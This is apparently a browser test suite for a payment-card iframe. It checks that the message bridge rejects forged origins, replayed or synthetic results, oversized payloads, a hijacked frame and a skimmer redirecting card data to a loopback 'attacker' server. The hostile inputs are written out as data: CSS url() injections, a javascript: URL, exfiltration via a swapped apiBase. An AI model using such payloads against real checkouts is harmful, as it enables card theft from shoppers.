// Abuse of the message bridge between the merchant page and the fields frame, in headless
// Chromium and Firefox: forged origins and sources, malformed and oversized payloads, replayed
// results, a frame navigated to another origin, a frame under an unexpected parent, and a
// skimmer pointing the fields at its own server. Nothing tokenizes that should not, no card
// digit reaches the merchant realm or another origin, and nothing throws.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { INSTRUMENT } from '../../proof/hostile.mjs';
import { FIELD, FRAME, RECORD_UNCAUGHT, inEachBrowser, sleep, typeCard, uncaught, useAttackerPages, useDemo } from './fixture.mjs';

const PORTS = { merchantPort: 18190, framePort: 18191, apiPort: 18192 };
/** An attacker's origin that the frame's CSP lets frame the fields (a misconfigured shop). */
const LAX_ATTACKER = 18193;
/** An attacker's origin that the frame's CSP refuses (frame-ancestors). */
const ATTACKER = 18194;

const demo = useDemo({ ...PORTS, extra: ['--cors-origin', `http://127.0.0.1:${LAX_ATTACKER}`] });
/** Every request the attacker origins received: `METHOD port path`. */
const { log: attackerLog } = useAttackerPages([LAX_ATTACKER, ATTACKER]);

/** Runs in every frame before its scripts (after `RECORD_UNCAUGHT`): the raw messages received. */
const RECORD_RECEIVED = `(() => {
  if (window.__received) return;
  const received = [];
  Object.defineProperty(window, '__received', { value: received });
  addEventListener('message', (e) => received.push({ origin: e.origin, data: e.data }), true);
})();`;
/** Init scripts: uncaught errors and the raw messages received, in every frame. */
const RECORD = [RECORD_UNCAUGHT, RECORD_RECEIVED];

/** The demo checkout, instrumented as a skimmer would and recording. */
const openCheckout = (/** @type {import('./fixture.mjs').TestPage} */ page) => demo.openCheckout(page, { init: [INSTRUMENT, ...RECORD] });

/** The channel id of the mounted frame, as any script of the merchant page can read it. */
const CHANNEL = `new URLSearchParams(new URL(document.querySelector('${FRAME}').src).hash.slice(1)).get('channel')`;

/**
 * Mounts a second field of the demo's configuration from the page (the demo's own is removed).
 * @param {{ apiBase?: string }} [o]  another API base
 */
const MOUNT_OWN = (o = {}) => `(async () => {
  document.querySelector('#card iframe')?.remove();
  const host = document.createElement('div');
  document.body.append(host);
  const sc = await SealCard.load(${demo.config(o)});
  window.__card = sc.mount(host);
  window.__changes = [];
  window.__card.on('change', (state) => window.__changes.push(state));
  await new Promise((resolve) => window.__card.on('ready', resolve));
  return true;
})()`;

inEachBrowser('message bridge abuse', (browser) => {
  test('forged origins and sources, malformed and oversized payloads: the frame does nothing', async () => {
    const page = await browser.newPage();
    await openCheckout(page);
    await typeCard(page);
    const before = await demo.stats();
    const attackerRequests = attackerLog.length;
    // From the merchant page, the frame's real parent, with the real channel: shapes the
    // frame must ignore or answer with an error, never with a tokenization.
    const answered = await page.evaluate(`(async () => {
      const frame = document.querySelector('${FRAME}');
      const w = frame.contentWindow;
      const target = new URL(frame.src).origin;
      const ch = ${CHANNEL};
      const results = [];
      addEventListener('message', (e) => { if (e.data && e.data.type === 'result') results.push(e.data); });
      for (const m of [
        { type: 'createPaymentMethod', id: '1' },
        { type: 'createPaymentMethod', id: 2 ** 60 },
        { type: 'createPaymentMethod', id: 1.5 },
        { type: 'createPaymentMethod', id: -0.5, options: null },
        { type: '__proto__', id: 3 },
        { type: 'constructor', id: 4 },
        { type: 'hasOwnProperty', id: 5 },
        { type: 'nextActionDone', id: 1, cancelled: false },
        { type: 'focus', field: 'x'.repeat(1 << 20) },
        { type: 'update', options: { style: { backgroundColor: 'red; background-image: url(http://127.0.0.1:${LAX_ATTACKER}/css)' } } },
        { type: 'update', options: { style: { backgroundColor: 'url(http://127.0.0.1:${LAX_ATTACKER}/css2)' } } },
        // A second init tries to point the mounted fields at another server: ignored.
        { type: 'init', config: { publicKey: 'pk_test_sandbox', apiBase: 'http://127.0.0.1:${LAX_ATTACKER}/v1' } },
        // Oversized options: answered with invalid_option, no request.
        { type: 'createPaymentMethod', id: 7, options: { billing: 'x'.repeat(8 << 20) } },
        { type: 'createPaymentMethod', id: 8, options: { metadata: [1, 2, 3] } },
      ]) w.postMessage({ sealcard: ch, ...m }, target);
      await new Promise((r) => setTimeout(r, 1500));
      return results.map((r) => r.id + ' ' + (r.payload && r.payload.error ? r.payload.error.code : 'no error'));
    })()`);
    assert.deepEqual(answered.sort(), ['7 invalid_option', '8 invalid_option']);
    // The frame's real parent origin but another window (a blank frame of the merchant page):
    // a forged source.
    await page.evaluate(`(() => {
      const blank = document.createElement('iframe');
      blank.id = 'blank';
      document.body.append(blank);
    })()`);
    await page.evaluate(`(() => {
      const frame = parent.document.querySelector('${FRAME}');
      const ch = new URLSearchParams(new URL(frame.src).hash.slice(1)).get('channel');
      frame.contentWindow.postMessage({ sealcard: ch, type: 'createPaymentMethod', id: 20 }, new URL(frame.src).origin);
    })()`, '#blank');
    // Another origin next to it (the API's own page, which the shop may frame for 3-D
    // Secure), with the leaked channel: a forged origin.
    await page.evaluate(`new Promise((resolve) => {
      const other = document.createElement('iframe');
      other.id = 'other';
      other.src = '${demo.api}/3ds/pi_nothing';
      other.onload = () => resolve(undefined);
      document.body.append(other);
      window.__leakedChannel = ${CHANNEL};
    })`);
    const channel = await page.evaluate('window.__leakedChannel');
    await page.evaluate(`(() => {
      const w = parent.frames[0];
      for (const target of ['*', '${demo.frame}']) {
        w.postMessage({ sealcard: '${channel}', type: 'createPaymentMethod', id: 21 }, target);
        w.postMessage({ sealcard: '${channel}', type: 'init', config: { publicKey: 'pk_test_sandbox' } }, target);
      }
    })()`, '#other');
    await sleep(1500);
    const after = await demo.stats();
    assert.equal(after.tokenizations, before.tokenizations, 'no tokenization');
    assert.equal(await page.value(FIELD.number, FRAME), '4539 8172 6051 9300', 'the input stays');
    assert.equal(await page.evaluate(`document.querySelector('${FRAME}').contentWindow === parent.frames[0]`), true);
    // The frame still works: the shop pays with the card, once.
    await page.click('#pay');
    await page.waitFor('body[data-paid]', 20000);
    assert.equal((await demo.stats()).tokenizations - before.tokenizations, 1, 'one payment method');
    const { leaks } = await demo.findLeaks(page);
    assert.deepEqual(leaks, []);
    assert.deepEqual(await uncaught(page), []);
    assert.deepEqual(attackerLog.slice(attackerRequests).filter((l) => !l.endsWith(' /favicon.ico')), [], 'nothing reached the attacker');
  });

  test('a replayed result never settles a later call with stale data', async () => {
    const page = await browser.newPage();
    await openCheckout(page);
    await page.evaluate(MOUNT_OWN());
    await typeCard(page);
    const first = await page.evaluate(`window.__card.createPaymentMethod().then((r) => r.paymentMethod.id)`);
    assert.match(first, /^pm_/);
    await typeCard(page);
    await demo.fault({ endpoint: 'payment_methods', kind: 'latency', latency_ms: 1500 });
    // While the second call waits, the merchant realm replays the first result message it
    // saw, as it was and with the id of the call in flight.
    const second = await page.evaluate(`(async () => {
      const frameOrigin = '${demo.frame}';
      const recorded = window.__received.filter((m) => m.origin === frameOrigin && m.data && m.data.type === 'result');
      const pending = window.__card.createPaymentMethod();
      const last = recorded[recorded.length - 1].data;
      for (const id of [last.id, last.id + 1, last.id + 2]) postMessage({ ...last, id }, '*');
      const r = await pending;
      return { replayed: recorded.length, id: r.paymentMethod && r.paymentMethod.id, error: r.error && r.error.code };
    })()`);
    assert.equal(second.replayed, 1, 'the first result was seen by the merchant realm');
    assert.match(second.id, /^pm_/, JSON.stringify(second));
    assert.notEqual(second.id, first, 'the second call got its own answer');
    assert.deepEqual(await uncaught(page), []);
  });

  test(
    'a result forged by a merchant-realm script (synthetic MessageEvent) is ignored',
    async () => {
      const page = await browser.newPage();
      await openCheckout(page);
      await page.evaluate(MOUNT_OWN());
      await typeCard(page);
      await demo.fault({ endpoint: 'payment_methods', kind: 'latency', latency_ms: 1500 });
      const r = await page.evaluate(`(async () => {
        const frame = document.querySelector('${FRAME}');
        const pending = window.__card.createPaymentMethod();
        // A synthetic event can claim any origin and source (Chromium lets a page name a
        // cross-origin frame as the source; Firefox refuses to): only isTrusted tells it apart.
        try {
          dispatchEvent(new MessageEvent('message', {
            data: { sealcard: ${CHANNEL}, type: 'result', id: 1, payload: { paymentMethod: { id: 'pm_forged' } } },
            origin: new URL(frame.src).origin,
            source: frame.contentWindow,
          }));
        } catch {
          // Cannot be forged in this browser.
        }
        const r = await pending;
        return r.paymentMethod ? r.paymentMethod.id : r.error.code;
      })()`);
      assert.notEqual(r, 'pm_forged');
    },
  );

  test('a frame navigated to another origin: its messages are ignored, nothing tokenizes', async () => {
    const page = await browser.newPage();
    await openCheckout(page);
    await page.evaluate(MOUNT_OWN());
    await typeCard(page);
    // The frame's last change event is in: the state the merchant page holds is final.
    await page.evaluate(`new Promise((resolve) => {
      const check = () => (window.__card.getState()?.complete ? resolve(undefined) : setTimeout(check, 50));
      check();
    })`);
    const before = await demo.stats();
    const state = await page.evaluate('JSON.stringify(window.__card.getState())');
    // Something navigates the fields frame to a page of another origin (the API's, which
    // the shop's CSP lets it frame); that page knows the channel and speaks the protocol.
    const channel = await page.evaluate(CHANNEL);
    await page.evaluate(`new Promise((resolve) => {
      const frame = document.querySelector('${FRAME}');
      frame.addEventListener('load', () => resolve(undefined), { once: true });
      frame.src = '${demo.api}/3ds/pi_nothing';
    })`);
    await page.evaluate(`(() => {
      const m = (o) => parent.postMessage({ sealcard: '${channel}', ...o }, '*');
      m({ type: 'ready' });
      m({ type: 'change', payload: { complete: true, empty: false, brand: 'forged' } });
      m({ type: 'result', id: 1, payload: { paymentMethod: { id: 'pm_forged' } } });
      m({ type: 'resize', height: 1e9 });
      m({ type: 'nextAction', id: 1, url: 'javascript:parent.document.title="pwned"' });
      m({ type: 'submit', payload: {} });
      m({ type: 'loaderror', error: { code: 'x'.repeat(1 << 20) } });
    })()`, FRAME);
    await sleep(500);
    const after = await page.evaluate(`({
      state: JSON.stringify(window.__card.getState()),
      forgedChanges: window.__changes.filter((c) => c.brand === 'forged').length,
      title: document.title,
      dialogs: document.querySelectorAll('dialog, [role=dialog]').length,
      height: document.querySelector('${FRAME}').style.height,
    })`);
    // The state the merchant page holds is the frame's last, or none once the frame is
    // known to be gone; never the forged one.
    assert.ok(after.state === undefined || JSON.parse(after.state).brand === JSON.parse(state).brand, `getState() not forged: ${after.state}`);
    assert.equal(after.forgedChanges, 0, 'no forged change event');
    assert.notEqual(after.title, 'pwned');
    assert.equal(after.dialogs, 0, 'no 3-D Secure modal');
    assert.notEqual(after.height, '1000000000px');
    assert.equal((await demo.stats()).tokenizations, before.tokenizations);
    const { leaks } = await demo.findLeaks(page);
    assert.deepEqual(leaks, []);
  });

  test(
    'calls made after the frame was navigated away settle with an error',
    async () => {
      const page = await browser.newPage();
      await openCheckout(page);
      await page.evaluate(MOUNT_OWN());
      await page.evaluate(`new Promise((resolve) => {
        const frame = document.querySelector('${FRAME}');
        frame.addEventListener('load', () => resolve(undefined), { once: true });
        frame.src = '${demo.api}/3ds/pi_nothing';
      })`);
      const r = await page.evaluate(`Promise.race([
        window.__card.createPaymentMethod().then((r) => r.error ? r.error.code : 'paid'),
        new Promise((resolve) => setTimeout(() => resolve('never settled'), 3000)),
      ])`);
      assert.equal(r, 'load_failed');
    },
  );

  test('the frame refuses to run under an unexpected parent', async () => {
    const merchantOrigin = demo.merchant;
    const page = await browser.newPage();
    for (const script of RECORD) await page.addInitScript(script);
    for (const [where, claim] of [
      // A page the frame's CSP lets frame it, claiming to be the shop.
      [`http://127.0.0.1:${LAX_ATTACKER}/`, merchantOrigin],
      // A page the frame's CSP refuses, claiming to be itself or the shop.
      [`http://127.0.0.1:${ATTACKER}/`, `http://127.0.0.1:${ATTACKER}`],
      [`http://127.0.0.1:${ATTACKER}/`, merchantOrigin],
    ]) {
      await page.goto(where);
      const heard = await page.evaluate(`new Promise((resolve) => {
        const f = document.createElement('iframe');
        f.title = 'probe';
        f.src = '${demo.frameUrl}#' + new URLSearchParams({ origin: '${claim}', channel: '1-1' });
        document.body.append(f);
        setTimeout(() => {
          for (const type of ['init', 'createPaymentMethod']) {
            try { f.contentWindow.postMessage({ sealcard: '1-1', type, id: 1, config: { publicKey: 'pk_test_sandbox', apiBase: '${demo.apiBase}' } }, '*'); } catch {}
          }
          setTimeout(() => resolve(window.__received.map((m) => m.origin)), 1500);
        }, 1500);
      })`);
      assert.deepEqual(heard, [], `${where} claiming ${claim}: nothing answers`);
      const mounted = await page
        .evaluate(`document.querySelectorAll('input').length`, 'iframe[title="probe"]')
        .catch(() => 0);
      assert.equal(mounted, 0, `${where} claiming ${claim}: no field mounted`);
    }
    // Opened on its own, not in a frame; and with a malformed fragment.
    const hashes = [`origin=${encodeURIComponent(merchantOrigin)}&channel=1-1`, `origin=${encodeURIComponent(`${merchantOrigin}/x`)}&channel=1-1`, 'origin=null&channel=1-1', ''];
    for (const [i, hash] of hashes.entries()) {
      // (A query of its own per case: a change of fragment alone would not reload the page.)
      await page.goto(`${demo.frameUrl}?case=${i}#${hash}`);
      await sleep(300);
      assert.equal(await page.evaluate(`document.querySelectorAll('input').length`), 0, `top level #${hash}`);
    }
    assert.deepEqual(await page.evaluate('window.__uncaught'), []);
  });

  test('a skimmer pointing the fields at its own server gets nothing: the frame CSP holds', async () => {
    const page = await browser.newPage();
    await openCheckout(page);
    const before = attackerLog.length;
    // The merchant realm mounts the fields with an API base of its own (a test key on
    // loopback passes the key rules): the frame's connect-src allows only the API.
    await page.evaluate(MOUNT_OWN({ apiBase: `http://127.0.0.1:${LAX_ATTACKER}/v1` }));
    await typeCard(page);
    const r = await page.evaluate(`window.__card.createPaymentMethod().then((r) => r.error ? r.error.code : 'tokenized')`);
    assert.equal(r, 'network_error');
    assert.deepEqual(attackerLog.slice(before), [], 'the attacker received no request');
    const { leaks } = await demo.findLeaks(page);
    assert.deepEqual(leaks, []);
  });
});
